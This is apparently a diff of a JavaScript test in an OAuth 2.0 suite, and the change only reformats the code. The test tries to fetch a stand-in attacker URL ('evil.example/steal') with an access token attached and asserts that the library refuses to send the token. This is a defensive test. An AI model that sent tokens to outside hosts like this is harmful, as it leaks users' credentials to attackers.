@@ -369,20 +369,16 @@ describe('The OAuth 2.0 dance against a real local authorization server', () => 
     it('never sends the token to another origin', async () => {
       app = await startDanceApp(server, { userRequired: false });
       await expect(
-        app
-          .blueprint()
-          .fetch('https://evil.example/steal', {
-            token: { access_token: 'secret-at' },
-          }),
+        app.blueprint().fetch('https://evil.example/steal', {
+          token: { access_token: 'secret-at' },
+        }),
       ).rejects.toThrow(
         /Refusing to send the 'local' token to https:\/\/evil.example/,
       );
       await expect(
-        app
-          .blueprint()
-          .fetch('//evil.example/steal', {
-            token: { access_token: 'secret-at' },
-          }),
+        app.blueprint().fetch('//evil.example/steal', {
+          token: { access_token: 'secret-at' },
+        }),
       ).rejects.toThrow(/Refusing to send/);
     });
   });
